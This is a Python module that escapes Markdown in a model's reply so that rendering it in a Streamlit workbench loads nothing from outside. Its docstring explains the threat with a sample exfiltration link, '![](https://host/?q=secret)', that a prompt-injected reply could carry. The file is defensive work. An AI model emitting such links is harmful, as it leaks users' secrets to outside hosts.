"""A model's reply as Markdown that loads nothing from outside the workbench.

Replies keep their Markdown (code blocks, lists, tables, emphasis, links), but a reply is text a
model wrote, and a prompt-injected one can carry ``![](https://host/?q=secret)``: shown as
Markdown, the browser would fetch that URL by itself. :func:`neutralise` returns the reply with a
backslash put before every character that could make the browser load something, so it shows as
the character:

- ``![`` (an image, inline or by reference) keeps its text: ``!\\[alt](url)``;
- ``<`` (raw HTML, autolinks), ``$`` (math), ``:name`` (Streamlit's directives);
- link reference and footnote definitions at the start of a paragraph (nothing can then be
  referenced, including an image defined elsewhere);
- backticks that do not delimit a code span of this module's reading, and ``~~~`` that would
  open a fence it does not see, so the renderer cannot find code (where the escapes are not
  made) anywhere this module did not.

Code (fenced blocks and code spans) keeps every character: there a backslash would show.

The hard part is agreeing with the renderer (remark: CommonMark and GitHub's extensions) on what
is code, since an image written where this module sees code but the renderer sees text would
load. So the reply's blocks are read as CommonMark reads them (containers, lazy lines, fences,
tables); where a construct that consumes backticks before code spans are paired could start
(a link's ``(destination "title")``, a bare ``https://…`` link) no code span may open; whatever
this module does not read (indented code, math, HTML blocks) is escaped as plain text; and the
result is read again until a pass changes nothing, so what is checked is what is shown. Work is
bounded: a reply that would cost too much is escaped everywhere, code included (safe, if ugly).
"""

from __future__ import annotations

import re
import string
import textwrap
from bisect import bisect_left
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field

# What CommonMark lets a backslash escape (and so shows as the character itself).
PUNCTUATION = frozenset(string.punctuation)
# Passes until the text stops changing; real replies settle in two.
MAX_PASSES = 8

_CODE_INDENT = 4
_BULLET = re.compile(r"[*+-]")
_ORDERED = re.compile(r"(\d{1,9})([.)])")
_ATX = re.compile(r"#{1,6}(?:[ \t]+|$)")
_FENCE = re.compile(r"`{3,}(?!.*`)|~{3,}")
_CLOSING_FENCE = re.compile(r"(?:`{3,}|~{3,})(?=[ \t]*$)")
_SETEXT = re.compile(r"(?:=+|-+)[ \t]*$")
_THEMATIC = re.compile(r"(?:\*[ \t]*){3,}$|(?:_[ \t]*){3,}$|(?:-[ \t]*){3,}$")
# Lines starting with none of these cannot start a block (a shortcut, as in commonmark.js).
_MAYBE_SPECIAL = re.compile(r"[#`~*+_=<>0-9\-|:]")
_DELIMITER_ROW = re.compile(r"\|?[ \t]*:?-+:?[ \t]*(?:\|[ \t]*:?-+:?[ \t]*)*\|?[ \t]*$")
# A table's delimiter row, loosely (with any container prefix), holds only these.
_TABLE_ISH = frozenset(" \t>|:-")
# A bare link GitHub's extension makes from text: it may swallow backticks up to a space.
_BARE_LINK = re.compile(r"(?i)(?:https?://|www\.)")
_SPACE = frozenset(" \t\n\r\f\v")
_WHITESPACE = re.compile(r"[ \t\n\r\f\v]")
# Longer replies than any model writes are escaped everywhere without being read.
_LONGEST_READ = 250_000


class _TooMuchWork(Exception):
    """The reply is built to make reading it slow: escape everything instead."""


@dataclass
class _Budget:
    left: int

    def spend(self, steps: int) -> None:
        self.left -= steps
        if self.left < 0:
            raise _TooMuchWork


def neutralise(reply: str) -> str:
    """``reply`` as Markdown to render with ``st.markdown``: the same text and formatting, but
    nothing in it can make the browser request a URL (see the module's docstring)."""
    text = _as_streamlit_sends(reply)
    if len(text) > _LONGEST_READ:
        return _escape_everything(text)
    budget = _Budget(200_000 + 32 * len(text))
    try:
        for _ in range(MAX_PASSES):
            settled = _one_pass(text, budget)
            if settled == text:
                return settled
            text = settled
    except _TooMuchWork:
        pass
    return _escape_everything(text)


def _as_streamlit_sends(text: str) -> str:
    """What ``st.markdown`` sends the browser for ``text`` (``clean_text``: dedented, stripped),
    with one kind of line ending: this module reads exactly what the renderer reads."""
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")
    return textwrap.dedent(text).strip()


# --- escaping ------------------------------------------------------------------------------------


def _escape_everything(text: str) -> str:
    """No code anywhere: every character that could start something is escaped, in every line
    (the fallback; code blocks then show the backslashes)."""
    lines = text.split("\n")
    out: list[str] = []
    for line in lines:
        inserts = _plain_inserts(line, 0, len(line))
        start = _content_start(line)
        if start < len(line) and line[start] == "[" and not _escaped_at(line, start):
            inserts.add(start)
        out.append(_with_backslashes(line, inserts))
    return "\n".join(out)


def _content_start(line: str) -> int:
    """Where a line's text starts after any quote and list markers (loosely)."""
    found = re.match(r"(?:[ \t>]|[-+*](?=[ \t])|\d{1,9}[.)](?=[ \t]))*", line)
    return found.end() if found else 0


def _escaped_at(text: str, index: int) -> bool:
    """Whether the character at ``index`` is escaped (an odd run of backslashes before it)."""
    count = 0
    while index - count - 1 >= 0 and text[index - count - 1] == "\\":
        count += 1
    return count % 2 == 1


def _plain_inserts(text: str, start: int, end: int) -> set[int]:
    """Where backslashes go in ``text[start:end]`` read as text with no code at all."""
    return _inline_inserts(text, start, end, None, _Budget(len(text) + 1))


def _run(text: str, start: int, char: str, end: int | None = None) -> int:
    stop = len(text) if end is None else end
    i = start
    while i < stop and text[i] == char:
        i += 1
    return i - start


def _with_backslashes(line: str, inserts: Iterable[int]) -> str:
    points = sorted(set(inserts))
    if not points:
        return line
    parts: list[str] = []
    last = 0
    for point in points:
        parts.append(line[last:point])
        parts.append("\\")
        last = point
    parts.append(line[last:])
    return "".join(parts)


# --- one pass: read the blocks, then the text in them --------------------------------------------


def _one_pass(text: str, budget: _Budget) -> str:
    lines = text.split("\n")
    budget.spend(len(text))
    layout = _Blocks(lines, budget).read()
    table_ish = _table_ish_lines(lines)
    inserts: dict[int, set[int]] = {n: set() for n in range(len(lines))}
    for number, role in enumerate(layout.roles):
        if role == "plain":
            inserts[number] |= _plain_inserts(lines[number], 0, len(lines[number]))
    for line_number, column in layout.kills:
        inserts[line_number].add(column)
    for region in layout.regions:
        if region.kind == "row":
            _escape_row(lines, region.segments[0], inserts, budget)
        else:
            _escape_text(lines, region.segments, inserts, table_ish, budget)
    return "\n".join(_with_backslashes(line, inserts[n]) for n, line in enumerate(lines))


def _table_ish_lines(lines: list[str]) -> set[int]:
    """Lines that could be a table's rows whatever the blocks around them are: from the line
    before a delimiter-like line to the next blank line."""
    found: set[int] = set()
    start = 0
    while start < len(lines):
        end = start
        while end < len(lines) and lines[end].strip():
            end += 1
        for n in range(start, end):
            line = lines[n]
            if "-" in line and ("|" in line or ":" in line) and set(line) <= _TABLE_ISH:
                found.update(range(max(start, n - 1), end))
                break
        start = end + 1
    return found


@dataclass
class _Region:
    """Text the renderer parses as one inline run: a paragraph's lines, a heading, a table row.
    ``segments`` are (line number, column where the text starts in that line)."""

    kind: str  # "text" | "row"
    segments: list[tuple[int, int]]


def _escape_text(
    lines: list[str],
    segments: list[tuple[int, int]],
    inserts: dict[int, set[int]],
    table_ish: set[int],
    budget: _Budget,
) -> None:
    text, where = _joined(lines, segments)
    pipes = any(n in table_ish for n, _ in segments)
    found = _inline_inserts(text, 0, len(text), pipes, budget)
    first = _skip_spaces(text, 0)
    if first < len(text) and text[first] == "[" and _looks_like_definition(text, first):
        found.add(first)
    for offset in where.offsets:
        found |= _line_start_inserts(text, offset)
    for index in found:
        number, column = where(index)
        inserts[number].add(column)


def _escape_row(
    lines: list[str], segment: tuple[int, int], inserts: dict[int, set[int]], budget: _Budget
) -> None:
    """A table row: each cell is parsed on its own (GitHub splits the row at unescaped pipes
    first, even inside backticks)."""
    number, start = segment
    line = lines[number]
    inserts[number] |= _line_start_inserts(line, start)
    cell = start
    i = start
    while i <= len(line):
        if i < len(line) and line[i] == "\\" and i + 1 < len(line) and line[i + 1] in "\\|":
            i += 2
            continue
        if i == len(line) or line[i] == "|":
            inserts[number] |= _inline_inserts(line, cell, i, False, budget)
            cell = i + 1
        i += 1


def _joined(lines: list[str], segments: list[tuple[int, int]]) -> tuple[str, _Locate]:
    parts = [lines[n][column:] for n, column in segments]
    text = "\n".join(parts)
    offsets: list[int] = []
    position = 0
    for part in parts:
        offsets.append(position)
        position += len(part) + 1
    return text, _Locate(offsets, segments)


@dataclass(frozen=True)
class _Locate:
    """Maps an index in a region's joined text back to (line number, column)."""

    offsets: list[int]
    segments: list[tuple[int, int]]

    def __call__(self, index: int) -> tuple[int, int]:
        k = bisect_left(self.offsets, index + 1) - 1
        number, column = self.segments[k]
        return number, column + index - self.offsets[k]


def _skip_spaces(text: str, i: int) -> int:
    while i < len(text) and text[i] in " \t":
        i += 1
    return i


def _line_start_inserts(text: str, offset: int) -> set[int]:
    """Blocks this module does not read can interrupt a paragraph, even one this module reads as
    inside a code span: HTML, math (``$$``), directives (``::``) and footnote definitions
    (``[^x]:``). Their first character is escaped wherever a line of text starts."""
    at = _skip_spaces(text, offset)
    following = text[at + 1 : at + 2]
    if text.startswith("<", at) or text.startswith("$$", at) or text.startswith("[^", at):
        return {at}
    if text.startswith(":", at) and (following == ":" or _ascii_letter(following)):
        return {at}
    return set()


def _looks_like_definition(text: str, start: int) -> bool:
    """``[label]:`` at a paragraph's start (a link reference or footnote definition), loosely:
    the first unescaped ``]`` is followed by ``:``."""
    i = start + 1
    while i < len(text):
        c = text[i]
        if c == "\\":
            i += 2
            continue
        if c == "[":
            return False
        if c == "]":
            return text.startswith(":", i + 1)
        i += 1
    return False


# --- inline text ---------------------------------------------------------------------------------


def _inline_inserts(
    text: str, start: int, end: int, pipes: bool | None, budget: _Budget
) -> set[int]:
    """Where backslashes go in ``text[start:end]`` (one inline run). Code spans are paired as
    CommonMark pairs them, except that no code span may open where a link destination or a bare
    link could have started before it (those take the backticks first): such backticks are
    escaped. With ``pipes``, pipes inside code spans are escaped too (GitHub would split a table
    row there; inside a table cell it shows ``\\|`` as ``|``). With ``pipes`` None there is no
    code at all: every backtick is escaped."""
    budget.spend(end - start)
    closers = _Closers(text, start, end)
    inserts: set[int] = set()
    taken_until = start  # end of the furthest link destination or bare link seen so far
    bare_link_until = start
    i = start
    while i < end:
        c = text[i]
        if c == "\\" and i + 1 < end and text[i + 1] in PUNCTUATION:
            i += 2
            continue
        if c == "`":
            run = _run(text, i, "`", end)
            close = None if pipes is None or i < taken_until else closers.after(i + run, run)
            if close is None:
                inserts.update(range(i, i + run))
                i += run
                continue
            if pipes:
                inserts.update(_pipes(text, i + run, close))
            i = close + run
            continue
        if pipes is None:
            pass  # no code spans to guard
        elif c == "]" and i + 1 < end and text[i + 1] == "(":
            resource_end = _resource_end(text, i + 1, end, budget)
            if resource_end is not None:
                taken_until = max(taken_until, resource_end)
        elif c in "hHwW" and i >= bare_link_until and _BARE_LINK.match(text, i):
            # (One starting inside another ends at the same space: no need to look again.)
            space = _WHITESPACE.search(text, i, end)
            bare_link_until = end if space is None else space.start()
            budget.spend(bare_link_until - i)
            taken_until = max(taken_until, bare_link_until)
        if c in "<$":
            inserts.add(i)
        elif c == "!" and i + 1 < end and text[i + 1] == "[":
            inserts.add(i + 1)
        elif c == ":" and i + 1 < end and (text[i + 1] == ":" or _ascii_letter(text[i + 1])):
            inserts.add(i)
        elif c == "~" and (i == start or text[i - 1] != "~"):
            run = _run(text, i, "~", end)
            if run >= 3:
                inserts.add(i)
            i += run
            continue
        i += 1
    return inserts


def _ascii_letter(c: str) -> bool:
    return c.isascii() and c.isalpha()


def _pipes(text: str, start: int, end: int) -> set[int]:
    return {i for i in range(start, end) if text[i] == "|" and not _escaped_at(text, i)}


class _Closers:
    """Backtick runs in a stretch of text, to find the run of exactly ``n`` that closes a code
    span (inside code a backslash escapes nothing, so every run counts)."""

    def __init__(self, text: str, start: int, end: int) -> None:
        self._by_length: dict[int, list[int]] = {}
        i = start
        while i < end:
            if text[i] == "`":
                run = _run(text, i, "`", end)
                self._by_length.setdefault(run, []).append(i)
                i += run
            else:
                i += 1

    def after(self, position: int, length: int) -> int | None:
        starts = self._by_length.get(length, [])
        k = bisect_left(starts, position)
        return starts[k] if k < len(starts) else None


def _resource_end(text: str, open_paren: int, end: int, budget: _Budget) -> int | None:
    """Where a link's ``(destination "title")`` starting at ``open_paren`` would end, or None
    if it is not one. Looser than CommonMark where looser is safer (any whitespace, any number
    of line endings, no limit on nested parentheses): a longer reach only escapes more."""
    i = _skip_space(text, open_paren + 1, end)
    if i < end and text[i] == ")":
        return i + 1
    destination_start = i
    if i < end and text[i] == "<":
        i += 1
        while i < end and text[i] not in "<>\n":
            i += 2 if text[i] == "\\" else 1
        if i >= end or text[i] != ">":
            return None
        i += 1
    else:
        depth = 0
        while i < end:
            c = text[i]
            if c == "\\" and i + 1 < end and text[i + 1] in PUNCTUATION:
                i += 2
                continue
            if c in _SPACE or ord(c) < 0x20 or ord(c) == 0x7F:
                break
            if c == "(":
                depth += 1
            elif c == ")":
                if depth == 0:
                    break
                depth -= 1
            i += 1
        if depth:
            return None
    budget.spend(i - open_paren)
    had_destination = i > destination_start
    after = _skip_space(text, i, end)
    if after < end and text[after] == ")":
        return after + 1
    if had_destination and after == i:
        return None  # a title must be apart from the destination
    if after >= end or text[after] not in "\"'(":
        return None
    closing = ")" if text[after] == "(" else text[after]
    j = after + 1
    while j < end:
        c = text[j]
        if c == "\\" and j + 1 < end:
            j += 2
            continue
        if c == closing:
            break
        if closing == ")" and c == "(":
            return None
        j += 1
    budget.spend(j - after)
    if j >= end:
        return None
    j = _skip_space(text, j + 1, end)
    return j + 1 if j < end and text[j] == ")" else None


def _skip_space(text: str, i: int, end: int) -> int:
    while i < end and text[i] in _SPACE:
        i += 1
    return i


# --- blocks (a port of commonmark.js's block parser, with GitHub's tables) ----------------------


@dataclass(eq=False)
class _Node:
    kind: str  # document quote list item paragraph heading rule fence indented table
    parent: _Node | None
    children: list[_Node] = field(default_factory=list)
    open: bool = True
    list_type: str = ""
    bullet: str = ""
    delimiter: str = ""
    marker_offset: int = 0
    padding: int = 0
    fence_char: str = ""
    fence_length: int = 0
    fence_offset: int = 0
    # Paragraph and heading lines, table rows: (line number, column, lazy, indent, tab-indented).
    lines: list[tuple[int, int, bool, int, bool]] = field(default_factory=list)


# Which children each container may hold (leaves hold none): commonmark.js's ``canContain``.
_HOLDS: dict[str, Callable[[str], bool]] = {
    "document": lambda kind: kind != "item",
    "quote": lambda kind: kind != "item",
    "item": lambda kind: kind != "item",
    "list": lambda kind: kind == "item",
}


def _holds_nothing(_kind: str) -> bool:
    return False


@dataclass
class _Layout:
    roles: list[str]  # per line: "code" (kept), "text" (in a region), "plain", "blank"
    regions: list[_Region]
    kills: list[tuple[int, int]]  # (line, column) of a table delimiter row to break


class _Blocks:
    """Reads a reply's lines into blocks as commonmark.js does (same cursor, same order of block
    starts, same container matching and lazy lines), plus GitHub's tables; records each line's
    role and the inline runs (paragraphs, headings, table rows) to escape."""

    def __init__(self, lines: list[str], budget: _Budget) -> None:
        self.lines = lines
        self.budget = budget
        self.document = _Node("document", None)
        self.tip = self.document
        self.old_tip = self.document
        self.last_matched = self.document
        self.all_closed = True
        self.roles = ["blank"] * len(lines)
        self.kills: list[tuple[int, int]] = []
        self.nodes: list[_Node] = []
        self.line = ""
        self.number = 0
        self.offset = 0
        self.column = 0
        self.next_nonspace = 0
        self.next_nonspace_column = 0
        self.indent = 0
        self.indented = False
        self.blank = False
        self.partially_consumed_tab = False

    def read(self) -> _Layout:
        for number, line in enumerate(self.lines):
            self.budget.spend(8)
            self._line(number, line)
        regions: list[_Region] = []
        for node in self.nodes:
            if node.kind in ("paragraph", "heading") and node.lines:
                regions.append(_Region("text", [(n, c) for n, c, *_ in node.lines]))
            elif node.kind == "table":
                # The delimiter row (second) holds no text; every other row is read by cells.
                for k, (n, c, *_rest) in enumerate(node.lines):
                    if k != 1:
                        regions.append(_Region("row", [(n, c)]))
        return _Layout(self.roles, regions, self.kills)

    # -- the line cursor, as commonmark.js keeps it --

    def _find_next_nonspace(self) -> None:
        i, cols = self.offset, self.column
        line = self.line
        while i < len(line):
            c = line[i]
            if c == " ":
                i += 1
                cols += 1
            elif c == "\t":
                i += 1
                cols += 4 - (cols % 4)
            else:
                break
        self.budget.spend(1 + i - self.offset)
        self.blank = i >= len(line)
        self.next_nonspace = i
        self.next_nonspace_column = cols
        self.indent = cols - self.column
        self.indented = self.indent >= _CODE_INDENT

    def _advance_next_nonspace(self) -> None:
        self.offset = self.next_nonspace
        self.column = self.next_nonspace_column
        self.partially_consumed_tab = False

    def _advance_offset(self, count: int, columns: bool) -> None:
        line = self.line
        while count > 0 and self.offset < len(line):
            c = line[self.offset]
            if c == "\t":
                to_tab = 4 - (self.column % 4)
                if columns:
                    self.partially_consumed_tab = to_tab > count
                    step = min(to_tab, count)
                    self.column += step
                    self.offset += 0 if self.partially_consumed_tab else 1
                    count -= step
                else:
                    self.partially_consumed_tab = False
                    self.column += to_tab
                    self.offset += 1
                    count -= 1
            else:
                self.partially_consumed_tab = False
                self.offset += 1
                self.column += 1
                count -= 1

    def _peek(self, index: int) -> str:
        return self.line[index] if index < len(self.line) else ""

    # -- the tree --

    def _add_child(self, kind: str) -> _Node:
        while not _HOLDS.get(self.tip.kind, _holds_nothing)(kind):
            self._finalize(self.tip)
        node = _Node(kind, self.tip)
        self.tip.children.append(node)
        self.tip = node
        self.nodes.append(node)
        return node

    def _finalize(self, node: _Node) -> None:
        node.open = False
        assert node.parent is not None
        self.tip = node.parent

    def _close_unmatched(self) -> None:
        if not self.all_closed:
            while self.old_tip is not self.last_matched:
                parent = self.old_tip.parent
                self._finalize(self.old_tip)
                assert parent is not None
                self.old_tip = parent
            self.all_closed = True

    # -- one line --

    def _line(self, number: int, line: str) -> None:
        self.number, self.line = number, line
        self.offset = self.column = 0
        self.blank = self.partially_consumed_tab = False
        self.old_tip = self.tip
        container = self.document
        while container.children and container.children[-1].open:
            container = container.children[-1]
            self._find_next_nonspace()
            matched = self._continue(container)
            if matched == 2:
                self.roles[number] = "code"
                return
            if matched == 1:
                assert container.parent is not None
                container = container.parent
                break
        self.all_closed = container is self.tip
        self.last_matched = container
        role: str | None = None
        matched_leaf = container.kind in ("fence", "indented")
        while not matched_leaf:
            self._find_next_nonspace()
            if not self.indented and not _MAYBE_SPECIAL.match(line, self.next_nonspace):
                self._advance_next_nonspace()
                break
            started = self._start(container)
            if started is None:
                self._advance_next_nonspace()
                break
            container = self.tip
            if started != "container":
                role = started
                matched_leaf = True
        if role is not None:
            self.roles[number] = role
            return
        if not self.all_closed and not self.blank and self.tip.kind == "paragraph":
            self.tip.lines.append((number, self.offset, True, self.indent, self._tab_indent()))
            self.roles[number] = "text"
            return
        self._close_unmatched()
        if container.kind == "fence":
            self.roles[number] = "code"
        elif container.kind == "indented":
            self.roles[number] = "plain"
        elif container.kind in ("paragraph", "table"):
            if not self.blank:
                container.lines.append(
                    (number, self.offset, False, self.indent, self._tab_indent())
                )
                self.roles[number] = "text"
        elif self.offset < len(line) and not self.blank:
            paragraph = self._add_child("paragraph")
            indent, tabbed = self.indent, self._tab_indent()
            self._advance_next_nonspace()
            paragraph.lines.append((number, self.offset, False, indent, tabbed))
            self.roles[number] = "text"

    def _tab_indent(self) -> bool:
        return "\t" in self.line[self.offset : self.next_nonspace]

    def _continue(self, node: _Node) -> int:
        """0: the line continues ``node``; 1: it does not; 2: it closed a fence (line done)."""
        line = self.line
        if node.kind == "quote":
            if not self.indented and self._peek(self.next_nonspace) == ">":
                self._advance_next_nonspace()
                self._advance_offset(1, False)
                if self._peek(self.offset) in (" ", "\t"):
                    self._advance_offset(1, True)
                return 0
            return 1
        if node.kind == "item":
            if self.blank:
                if not node.children:
                    return 1
                self._advance_next_nonspace()
            elif self.indent >= node.marker_offset + node.padding:
                self._advance_offset(node.marker_offset + node.padding, True)
            else:
                return 1
            return 0
        if node.kind == "fence":
            found = (
                _CLOSING_FENCE.match(line, self.next_nonspace)
                if self.indent <= 3 and self._peek(self.next_nonspace) == node.fence_char
                else None
            )
            if found and len(found.group(0)) >= node.fence_length:
                self._finalize(node)
                return 2
            skip = node.fence_offset
            while skip > 0 and self._peek(self.offset) in (" ", "\t"):
                self._advance_offset(1, True)
                skip -= 1
            return 0
        if node.kind == "indented":
            if self.indent >= _CODE_INDENT:
                self._advance_offset(_CODE_INDENT, True)
            elif self.blank:
                self._advance_next_nonspace()
            else:
                return 1
            return 0
        if node.kind in ("paragraph", "table"):
            return 1 if self.blank else 0
        if node.kind in ("heading", "rule"):
            return 1
        return 0  # list

    def _start(self, container: _Node) -> str | None:
        """Try each block start in CommonMark's order. None: nothing starts here; "container":
        a quote or list item started (look for more); else the role of the line, now done."""
        rest = self.line[self.next_nonspace :]
        self.budget.spend(len(rest))
        if not self.indented and self._peek(self.next_nonspace) == ">":
            self._advance_next_nonspace()
            self._advance_offset(1, False)
            if self._peek(self.offset) in (" ", "\t"):
                self._advance_offset(1, True)
            self._close_unmatched()
            self._add_child("quote")
            return "container"
        if not self.indented and (heading := _ATX.match(rest)):
            self._advance_next_nonspace()
            self._advance_offset(len(heading.group(0)), False)
            self._close_unmatched()
            node = self._add_child("heading")
            node.lines.append((self.number, self.offset, False, 0, False))
            return "text"
        if not self.indented and (fence := _FENCE.match(rest)):
            self._close_unmatched()
            node = self._add_child("fence")
            node.fence_char = fence.group(0)[0]
            node.fence_length = len(fence.group(0))
            node.fence_offset = self.indent
            self._advance_next_nonspace()
            self._advance_offset(len(fence.group(0)), False)
            return "code"
        if not self.indented and container.kind == "paragraph" and _SETEXT.match(rest):
            self._close_unmatched()
            container.kind = "heading"
            return "plain"
        if not self.indented and _THEMATIC.match(rest):
            self._close_unmatched()
            self._add_child("rule")
            return "plain"
        if (not self.indented or container.kind == "list") and self._list_item(container):
            return "container"
        if (
            not self.indented
            and container.kind == "paragraph"
            and _DELIMITER_ROW.match(rest)
            and ("|" in rest or ":" in rest)
        ):
            started = self._table(container)
            if started is not None:
                return started
        if self.indented and self.tip.kind != "paragraph" and not self.blank:
            self._advance_offset(_CODE_INDENT, True)
            self._close_unmatched()
            self._add_child("indented")
            return "plain"
        return None

    def _list_item(self, container: _Node) -> bool:
        if self.indent >= 4:
            return False
        line, rest = self.line, self.line[self.next_nonspace :]
        bullet = _BULLET.match(rest)
        ordered = None if bullet else _ORDERED.match(rest)
        if bullet:
            marker, kind = bullet.group(0), "bullet"
        elif ordered and (container.kind != "paragraph" or ordered.group(1) == "1"):
            marker, kind = ordered.group(0), "ordered"
        else:
            return False
        after = self._peek(self.next_nonspace + len(marker))
        if after not in ("", " ", "\t"):
            return False
        if container.kind == "paragraph" and not line[self.next_nonspace + len(marker) :].strip(
            " \t\f\v\r\n"
        ):
            return False
        marker_offset = self.indent
        self._advance_next_nonspace()
        self._advance_offset(len(marker), True)
        spaces_start_column, spaces_start_offset = self.column, self.offset
        while True:
            self._advance_offset(1, True)
            following = self._peek(self.offset)
            if not (self.column - spaces_start_column < 5 and following in (" ", "\t")):
                break
        blank_item = self._peek(self.offset) == ""
        spaces_after = self.column - spaces_start_column
        if spaces_after >= 5 or spaces_after < 1 or blank_item:
            padding = len(marker) + 1
            self.column, self.offset = spaces_start_column, spaces_start_offset
            if self._peek(self.offset) in (" ", "\t"):
                self._advance_offset(1, True)
        else:
            padding = len(marker) + spaces_after
        self._close_unmatched()
        delimiter = ordered.group(2) if ordered else ""
        if not (
            self.tip.kind == "list"
            and self.tip.list_type == kind
            and self.tip.bullet == (marker if bullet else "")
            and self.tip.delimiter == delimiter
        ):
            listed = self._add_child("list")
            listed.list_type, listed.delimiter = kind, delimiter
            listed.bullet = marker if bullet else ""
        item = self._add_child("item")
        item.marker_offset, item.padding = marker_offset, padding
        return True

    def _table(self, paragraph: _Node) -> str | None:
        """A delimiter row under a paragraph: its last line becomes a table's head row when the
        cells match (GitHub's tables). Where the renderer might read it otherwise (a lazy head
        row, tabs in the indentation), the row is broken instead (see ``kills``)."""
        head_number, head_column, lazy, head_indent, head_tabbed = paragraph.lines[-1]
        delimiter = self.line[self.next_nonspace :]
        head = self.lines[head_number][head_column:]
        cells = _head_cells(head)
        if cells is None or cells != _delimiter_cells(delimiter):
            return None
        if lazy or head_tabbed or self._tab_indent() or head_indent > 3:
            self.kills.append((self.number, self.next_nonspace))
            return None
        self._close_unmatched()
        paragraph.lines.pop()
        parent = paragraph.parent
        assert parent is not None
        if paragraph.lines:
            self._finalize(paragraph)
        else:
            parent.children.remove(paragraph)
            self.nodes.remove(paragraph)
            self.tip = parent
        table = self._add_child("table")
        table.lines.append((head_number, head_column, False, head_indent, False))
        table.lines.append((self.number, self.next_nonspace, False, 0, False))
        self.roles[head_number] = "text"
        return "plain"


def _split_cells(row: str) -> list[str]:
    cells: list[str] = []
    current: list[str] = []
    i = 0
    while i < len(row):
        c = row[i]
        if c == "\\" and i + 1 < len(row) and row[i + 1] in "\\|":
            current.append(row[i : i + 2])
            i += 2
            continue
        if c == "|":
            cells.append("".join(current))
            current = []
        else:
            current.append(c)
        i += 1
    cells.append("".join(current))
    return cells


def _head_cells(row: str) -> int | None:
    """How many cells GitHub counts in a table's head row (None: it cannot be one)."""
    stripped = row.strip(" \t")
    if not stripped or stripped == "|":
        return None
    cells = _split_cells(stripped)
    if stripped.startswith("|"):
        cells = cells[1:]
    if len(cells) > 1 and stripped.endswith("|") and not _escaped_at(stripped, len(stripped) - 1):
        cells = cells[:-1]
    return len(cells)


def _delimiter_cells(row: str) -> int:
    stripped = row.strip(" \t")
    if stripped.startswith("|"):
        stripped = stripped[1:]
    if stripped.endswith("|"):
        stripped = stripped[:-1]
    return len(stripped.split("|"))
